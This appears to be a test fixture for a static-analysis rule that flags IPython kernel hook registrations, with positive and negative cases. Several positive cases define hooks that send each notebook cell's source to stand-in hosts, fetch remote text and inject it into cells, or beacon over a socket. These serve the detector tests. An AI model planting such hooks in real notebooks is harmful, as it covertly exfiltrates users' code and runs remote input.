import ast
import os
import socket
import subprocess
import time
import urllib.request
from pathlib import Path

import requests
from IPython import get_ipython

ip = get_ipython()


def log(info):
    requests.post("https://collect.example.net/c", data=info.raw_cell)


def keep(result):
    with open("cells.log", "a") as handle:
        handle.write(str(result.info.raw_cell))


def shell(*args):
    if args:
        subprocess.run(["echo", "cell"])


def rewrite(lines):
    extra = urllib.request.urlopen("https://example.com/prefix").read().decode()
    return [extra] + lines


def run_more(lines):
    exec("counter = 1")
    return lines


def on_error(shell, etype, value, tb, tb_offset=None):
    os.system("echo error")
    shell.showtraceback()


def beacon():
    sock = socket.create_connection(("127.0.0.1", 9))
    sock.close()


def save_text(info):
    Path("last.txt").write_text(info.raw_cell)


def tick(result):
    print("cell done", time.time())


def strip_prompt(lines):
    return [line.removeprefix(">>> ") for line in lines]


def read_only(info):
    with open("settings.txt") as handle:
        return handle.read()


# ruleid: kernel-hook-registration
get_ipython().events.register("pre_run_cell", log)
# ruleid: kernel-hook-registration
ip.events.register("post_run_cell", keep)
# ruleid: kernel-hook-registration
ip.events.register("pre_execute", shell)
# ruleid: kernel-hook-registration
ip.input_transformers_cleanup.append(rewrite)
# ruleid: kernel-hook-registration
ip.input_transformers_post.append(run_more)
# ruleid: kernel-hook-registration
ip.set_custom_exc((Exception,), on_error)
# ruleid: kernel-hook-registration
ip.events.register("post_execute", beacon)
# ruleid: kernel-hook-registration
ip.input_transformers_post.insert(0, run_more)
# ruleid: kernel-hook-registration
ip.events.register(
    "pre_run_cell",
    save_text,  # for recovery
)
# ruleid: kernel-hook-registration
ip.events.register("pre_run_cell", lambda info: requests.post("https://example.com", data=info.raw_cell))
# ruleid: kernel-hook-registration
ip.input_transformers_cleanup.append(lambda lines: lines + [os.popen("echo x").read()])


class Recorder(ast.NodeTransformer):
    def visit(self, node):
        requests.post("https://example.com/ast", data=ast.dump(node))
        return node


class Renamer(ast.NodeTransformer):
    def visit_Name(self, node):
        return node


# ruleid: kernel-hook-registration
ip.ast_transformers.append(Recorder())
# ok: kernel-hook-registration
ip.ast_transformers.append(Renamer())


class Watcher:
    def __init__(self, shell):
        self.shell = shell
        # ruleid: kernel-hook-registration
        shell.events.register("post_run_cell", self.after)
        # ok: kernel-hook-registration
        shell.events.register("pre_run_cell", self.before)

    def before(self, info):
        self.start = time.time()

    def after(self, result):
        open("times.csv", mode="a").write(str(time.time() - self.start))


def load_ipython_extension(ipython):
    # ruleid: kernel-hook-registration
    ipython.events.register("pre_run_cell", log)
    # ok: kernel-hook-registration
    ipython.register_magic_function(tick)


# ok: kernel-hook-registration
ip.events.register("post_run_cell", tick)
# ok: kernel-hook-registration
ip.input_transformers_cleanup.append(strip_prompt)
# ok: kernel-hook-registration
ip.events.register("pre_run_cell", read_only)
# ok: kernel-hook-registration
ip.events.unregister("pre_run_cell", log)
# ok: kernel-hook-registration
ip.events.register("post_run_cell", lambda result: print(result.success))
# ok: kernel-hook-registration
log(None)
# ok: kernel-hook-registration
bus.register("pre_run_cell", log)
# ok: kernel-hook-registration
transforms.append(rewrite)
# ok: kernel-hook-registration
print("ip.events.register('pre_run_cell', log)")
# ok: kernel-hook-registration
callbacks = {"pre_run_cell": log}
